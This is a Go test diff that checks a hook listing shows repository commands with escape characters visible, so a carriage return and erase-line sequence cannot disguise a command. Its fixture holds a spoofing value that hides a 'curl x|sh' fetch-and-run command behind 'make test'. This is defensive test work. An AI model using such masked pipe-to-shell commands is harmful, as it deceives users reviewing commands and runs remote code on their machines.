@@ -126,3 +126,13 @@ func TestTraceCheck(t *testing.T) {
 		t.Errorf("passing: %v %v %q %q", ok, err, out.String(), sum.String())
 	}
 }
+
+// A command from a repository is listed escapes and all: a carriage return
+// and an erase-line cannot show `curl …|sh` as `make test`.
+func TestHooksShowCommandsAsWritten(t *testing.T) {
+	var b bytes.Buffer
+	Hooks(&b, []ipc.Hook{{Name: "t", On: []string{"file.saved"}, Action: "run", Detail: "curl x|sh\r\x1b[2Kmake test", Enabled: true, Source: "hookd.toml:1"}}, nil)
+	if strings.ContainsAny(b.String(), "\r\x1b") || !strings.Contains(b.String(), `\r\x1b[2Kmake test`) {
+		t.Fatalf("output %q", b.String())
+	}
+}
